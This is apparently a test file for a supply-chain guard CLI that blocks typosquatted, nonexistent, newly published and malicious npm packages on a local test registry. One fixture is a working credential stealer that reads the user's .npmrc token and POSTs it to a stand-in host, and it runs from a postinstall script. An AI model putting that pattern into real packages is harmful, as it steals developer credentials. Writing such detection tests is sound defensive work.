import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { runCli } from '../helpers/cli.js';
import { tempDir, writeTree } from '../helpers/tmp.js';
import { backdate, startVerdaccio, type VerdaccioRegistry } from '../helpers/verdaccio.js';

let registry: VerdaccioRegistry;

const STEALER = [
  "const fs = require('fs');",
  "const https = require('https');",
  "const os = require('os');",
  "const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');",
  "const req = https.request({ hostname: 'collect.example.test', method: 'POST' });",
  'req.end(token);',
].join('\n');

before(async () => {
  registry = await startVerdaccio();
  for (const version of ['1.0.0', '1.1.0', '1.2.0']) {
    await registry.publish({ name: 'steady-lib', version, main: 'index.js' }, { 'index.js': 'module.exports = (a, b) => a + b;\n' });
  }
  backdate(registry, 'steady-lib');
  await registry.publish({ name: 'expresss', version: '1.0.0' }, { 'index.js': 'module.exports = {};\n' });
  await registry.publish(
    { name: 'helpful-setup', version: '1.0.0', scripts: { postinstall: 'node install.js' } },
    { 'install.js': STEALER, 'index.js': 'module.exports = 1;\n' },
  );
  await registry.publish({ name: 'fresh-thing', version: '1.0.0' }, { 'index.js': 'module.exports = 2;\n' });
  for (const version of ['1.0.0', '1.1.0', '1.2.0']) {
    await registry.publish({ name: 'handy-wrapper', version, dependencies: { 'steady-lib': '^1.0.0', 'helpful-setup': '^1.0.0' } });
  }
  backdate(registry, 'handy-wrapper');
  await registry.publish({ name: 'alias-wrapper', version: '1.0.0', dependencies: { innocent: 'npm:helpful-setup@^1.0.0' } });
});

after(async () => {
  await registry.stop();
});

/** Environment of one guard run: its own cache and home, and the test registry. */
function guardEnv(extra: NodeJS.ProcessEnv = {}): NodeJS.ProcessEnv {
  const home = tempDir();
  return { HOME: home, RAMPART_CACHE_DIR: join(home, 'cache'), npm_config_registry: registry.url, ...extra };
}

describe('rampart guard', () => {
  it('allows a settled package', async () => {
    const result = await runCli(['guard', 'steady-lib@1.2.0'], tempDir(), guardEnv());
    assert.equal(result.code, 0, result.stderr);
    assert.match(result.stdout, /^allow {4}steady-lib@1\.2\.0 {2}no warning signs$/m);
    assert.match(result.stdout, /^not checked: known malware records \(no advisory database/m);
    assert.match(result.stdout, /1 package checked: 1 allowed/);
  });

  it('blocks a look-alike and names its target', async () => {
    const result = await runCli(['guard', 'expresss', '--format', 'json'], tempDir(), guardEnv());
    assert.equal(result.code, 1);
    const report = JSON.parse(result.stdout) as { verdict: string; packages: Array<{ verdict: string; signals: Array<{ id: string; imitates?: string }> }> };
    assert.equal(report.verdict, 'block');
    const typo = report.packages[0]!.signals.find((signal) => signal.id === 'typosquat');
    assert.equal(typo?.imitates, 'express');
  });

  it('blocks an invented name', async () => {
    const result = await runCli(['guard', 'express-jwt-session-guard'], tempDir(), guardEnv());
    assert.equal(result.code, 1);
    assert.match(result.stdout, /^block {4}express-jwt-session-guard {2}critical not-found: "express-jwt-session-guard" is not on the npm registry/m);
  });

  it('blocks a credential stealer', async () => {
    const result = await runCli(['guard', 'helpful-setup', '--format', 'json'], tempDir(), guardEnv());
    assert.equal(result.code, 1);
    const report = JSON.parse(result.stdout) as { packages: Array<{ signals: Array<{ id: string; severity: string; message: string }> }> };
    const signals = report.packages[0]!.signals;
    assert.ok(signals.some((signal) => signal.id === 'install-script' && signal.message.startsWith('runs "node install.js" at install time')), JSON.stringify(signals));
    assert.ok(signals.some((signal) => signal.id === 'content' && signal.severity === 'critical' && signal.message.includes('install.js')), JSON.stringify(signals));
  });

  it('warns on a new package', async () => {
    const result = await runCli(['guard', 'fresh-thing'], tempDir(), guardEnv());
    assert.equal(result.code, 0);
    assert.match(result.stdout, /^warn {5}fresh-thing@1\.0\.0 {2}medium new-package: "fresh-thing" was first published less than a day ago/m);
  });

  it('reports unknown offline', async () => {
    const env = guardEnv();
    const offline = await runCli(['guard', 'steady-lib', '--offline'], tempDir(), env);
    assert.equal(offline.code, 0);
    assert.match(offline.stdout, /^unknown {2}steady-lib {2}unknown registry: offline/m);
    const strict = await runCli(['guard', 'steady-lib', '--offline', '--unknown', 'block'], tempDir(), env);
    assert.equal(strict.code, 1);
    assert.match(strict.stdout, /^block/m);
  });

  it('uses cached answers offline', async () => {
    const env = guardEnv();
    assert.equal((await runCli(['guard', 'steady-lib'], tempDir(), env)).code, 0);
    const offline = await runCli(['guard', 'steady-lib', '--offline', '--no-content'], tempDir(), env);
    assert.match(offline.stdout, /^allow {4}steady-lib@1\.2\.0/m);
  });

  it('honours the allow-list', async () => {
    const project = tempDir();
    writeTree(project, { 'rampart.yaml': 'supply-chain:\n  allow: [expresss]\n' });
    const result = await runCli(['guard', 'expresss'], project, guardEnv());
    assert.equal(result.code, 0);
    assert.match(result.stdout, /^allow {4}expresss {2}allowed by supply-chain\.allow \("expresss"\); not checked$/m);
    assert.match(result.stderr, /^rampart: using .*rampart\.yaml$/m);
  });

  it('sees a release newer than the cache', async () => {
    const env = guardEnv();
    await registry.publish({ name: 'moving-lib', version: '1.0.0' });
    assert.match((await runCli(['guard', 'moving-lib'], tempDir(), env)).stdout, /moving-lib@1\.0\.0/);
    await registry.publish(
      { name: 'moving-lib', version: '1.1.0', scripts: { postinstall: 'node install.js' } },
      { 'install.js': STEALER },
    );
    const result = await runCli(['guard', 'moving-lib'], tempDir(), env);
    assert.equal(result.code, 1);
    assert.match(result.stdout, /^block {4}moving-lib@1\.1\.0 /m);
  });

  it('resolves ranges as npm would', async () => {
    const env = guardEnv();
    const caret = await runCli(['guard', 'steady-lib@^1.0.0', '--no-content'], tempDir(), env);
    assert.match(caret.stdout, /^allow {4}steady-lib@1\.2\.0 /m);
    const tilde = await runCli(['guard', 'steady-lib@~1.1.0', '--no-content'], tempDir(), env);
    assert.match(tilde.stdout, /^allow {4}steady-lib@1\.1\.0 /m);
    const none = await runCli(['guard', 'steady-lib@^2.0.0', '--no-content'], tempDir(), env);
    assert.equal(none.code, 1);
    assert.match(none.stdout, /high not-found: no version of "steady-lib" matches "\^2\.0\.0" on the registry/);
  });

  it('applies rule settings', async () => {
    const project = tempDir();
    writeTree(project, { 'rampart.yaml': 'rules:\n  disable: [supply-chain/new-package, supply-chain/few-versions]\n  severity: { supply-chain/typosquat: low }\n' });
    const fresh = await runCli(['guard', 'fresh-thing', '--no-content'], project, guardEnv());
    assert.match(fresh.stdout, /^allow {4}fresh-thing@1\.0\.0 {2}no warning signs$/m);
    const typo = await runCli(['guard', 'expresss', '--format', 'json', '--no-content'], project, guardEnv());
    assert.equal(typo.code, 0);
    const report = JSON.parse(typo.stdout) as { packages: Array<{ signals: Array<{ rule: string; severity: string }> }> };
    assert.deepEqual(report.packages[0]!.signals.map((signal) => `${signal.rule} ${signal.severity}`), ['supply-chain/typosquat low']);
  });

  it('says unknown when the archive cannot be read offline', async () => {
    const env = guardEnv();
    await runCli(['guard', 'steady-lib', '--no-content'], tempDir(), env);
    const offline = await runCli(['guard', 'steady-lib', '--offline', '--unknown', 'block'], tempDir(), env);
    assert.equal(offline.code, 1);
    assert.match(offline.stdout, /^block {4}steady-lib@1\.2\.0 {2}unknown content of steady-lib-1\.2\.0\.tgz: offline/m);
  });

  it('refuses a missing database', async () => {
    const result = await runCli(['guard', 'steady-lib', '--db', 'nope.sqlite'], tempDir(), guardEnv());
    assert.equal(result.code, 2);
    assert.match(result.stderr, /^rampart: --db nope\.sqlite: no such file/m);
  });

  it('blocks a package whose dependency is blocked', async () => {
    const result = await runCli(['guard', 'handy-wrapper'], tempDir(), guardEnv());
    assert.equal(result.code, 1, result.stdout);
    assert.match(result.stdout, /^allow {4}handy-wrapper@1\.2\.0 /m);
    assert.match(result.stdout, /^block {4}helpful-setup@1\.0\.0 /m);
    assert.match(result.stdout, /brought in by handy-wrapper@1\.2\.0$/m);
    assert.match(result.stdout, /^2 dependencies checked: 1 blocked, 1 allowed$/m);
    const alone = await runCli(['guard', 'handy-wrapper', '--no-deps'], tempDir(), guardEnv());
    assert.equal(alone.code, 0);
    const aliased = await runCli(['guard', 'alias-wrapper'], tempDir(), guardEnv());
    assert.equal(aliased.code, 1);
    assert.match(aliased.stdout, /^block {4}helpful-setup@1\.0\.0 /m);
  });

  it('rejects bad input', async () => {
    const none = await runCli(['guard'], tempDir(), guardEnv());
    assert.equal(none.code, 2);
    assert.match(none.stderr, /name at least one package/);
    const bad = await runCli(['guard', '../etc/passwd'], tempDir(), guardEnv());
    assert.equal(bad.code, 2);
    assert.match(bad.stderr, /"\.\.\/etc\/passwd" is not an npm package name/);
    const ecosystem = await runCli(['guard', '--ecosystem', 'cargo', 'serde'], tempDir(), guardEnv());
    assert.equal(ecosystem.code, 2);
  });
});

describe('rampart guard -- install', () => {
  function installEnv(): NodeJS.ProcessEnv {
    const env = guardEnv({ PATH: process.env.PATH });
    env.npm_config_cache = join(env.HOME!, 'npm-cache');
    return env;
  }

  it('runs the install when allowed', async () => {
    const project = tempDir();
    writeTree(project, { 'package.json': '{"name":"app","version":"1.0.0"}' });
    const args = ['guard', '--', 'npm', 'install', 'steady-lib@1.2.0', '--registry', registry.url, '--ignore-scripts', '--no-audit', '--no-fund'];
    const result = await runCli(args, project, installEnv());
    assert.equal(result.code, 0, result.stderr);
    assert.ok(existsSync(join(project, 'node_modules', 'steady-lib', 'index.js')));
  });

  it('keeps JSON output clean', async () => {
    const project = tempDir();
    writeTree(project, { 'package.json': '{"name":"app","version":"1.0.0"}' });
    const args = ['guard', '--format', 'json', '--', 'npm', 'install', 'steady-lib@1.2.0', '--registry', registry.url, '--ignore-scripts', '--no-audit', '--no-fund'];
    const result = await runCli(args, project, installEnv());
    assert.equal(result.code, 0, result.stderr);
    assert.equal((JSON.parse(result.stdout) as { verdict: string }).verdict, 'allow');
    assert.match(result.stderr, /added 1 package/);
  });

  it('refuses to install a blocked package', async () => {
    const project = tempDir();
    writeTree(project, { 'package.json': '{"name":"app","version":"1.0.0"}' });
    const result = await runCli(['guard', '--', 'npm', 'install', 'steady-lib', 'expresss', '--registry', registry.url], project, installEnv());
    assert.equal(result.code, 1);
    assert.match(result.stderr, /not running "npm install steady-lib expresss --registry .*": blocked expresss/);
    assert.equal(existsSync(join(project, 'node_modules')), false);
  });

  it('refuses names and a command together', async () => {
    const result = await runCli(['guard', 'lodash', '--', 'npm', 'install', 'x'], tempDir(), installEnv());
    assert.equal(result.code, 2);
    assert.match(result.stderr, /either package names or an install command/);
  });
});
